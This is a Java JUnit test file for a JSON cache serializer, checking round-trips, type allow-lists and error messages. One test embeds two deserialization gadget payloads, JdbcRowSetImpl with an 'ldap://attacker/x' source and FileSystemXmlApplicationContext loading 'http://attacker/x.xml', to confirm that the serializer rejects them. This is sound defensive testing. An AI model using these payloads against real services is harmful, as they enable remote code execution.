package dev.larder.cache.serialization;

import java.nio.charset.StandardCharsets;

import dev.larder.cache.testtypes.Product;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

class JsonValueSerializerTests extends SerializerContract {

	@Override
	ValueSerializer serializer(TypeAllowList allowList) {
		return new JsonValueSerializer(allowList);
	}

	@Test
	void bytesAreReadableJson() {
		byte[] bytes = serializer(ALLOW_TEST_TYPES).serialize(new Product(1, "Tea", 3.5));
		assertThat(new String(bytes, StandardCharsets.UTF_8)).contains("\"name\":\"Tea\"")
			.contains("dev.larder.cache.testtypes.Product");
	}

	@Test
	void jsonNamingAGadgetClassIsRefusedBeforeTheClassIsLoaded() {
		String attack = "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker/x\",\"autoCommit\":true}]";
		assertThatExceptionOfType(UntrustedTypeException.class)
			.isThrownBy(() -> serializer(ALLOW_TEST_TYPES).deserialize(attack.getBytes(StandardCharsets.UTF_8)))
			.withMessageContaining("com.sun.rowset.JdbcRowSetImpl");
		String nested = "[\"java.util.ArrayList\",[[\"org.springframework.context.support.FileSystemXmlApplicationContext\",\"http://attacker/x.xml\"]]]";
		assertThatExceptionOfType(UntrustedTypeException.class)
			.isThrownBy(() -> serializer(ALLOW_TEST_TYPES).deserialize(nested.getBytes(StandardCharsets.UTF_8)))
			.withMessageContaining("FileSystemXmlApplicationContext");
	}

	@Test
	void writingATypeThatCouldNotBeReadBackFailsAtOnce() {
		assertThatExceptionOfType(UntrustedTypeException.class)
			.isThrownBy(() -> serializer(TypeAllowList.jdkValueTypesOnly()).serialize(new Product(1, "Tea", 3.5)))
			.withMessageContaining("dev.larder.cache.testtypes.Product");
	}

	@Test
	void aMapWithNonStringKeysIsRefusedRatherThanReturnedWithStringKeys() {
		assertThatExceptionOfType(SerializationException.class)
			.isThrownBy(() -> serializer(ALLOW_TEST_TYPES).serialize(java.util.Map.of(1L, "a")))
			.withMessageContaining("java.lang.Long keys")
			.withMessageContaining("larder.serialization.format=jdk");
	}

	@Test
	void aMapWithNonStringKeysInsideARecordKeepsItsKeyType() {
		dev.larder.cache.testtypes.PriceList prices = new dev.larder.cache.testtypes.PriceList(
				java.util.Map.of(1L, new java.math.BigDecimal("2.50")));
		assertThat(roundTrip(prices)).isEqualTo(prices);
	}

	@Test
	void malformedBytesGiveASerializationError() {
		assertThatExceptionOfType(SerializationException.class)
			.isThrownBy(() -> serializer(ALLOW_TEST_TYPES).deserialize("{not json".getBytes(StandardCharsets.UTF_8)))
			.withMessageContaining("Could not read a cached JSON value");
	}

}
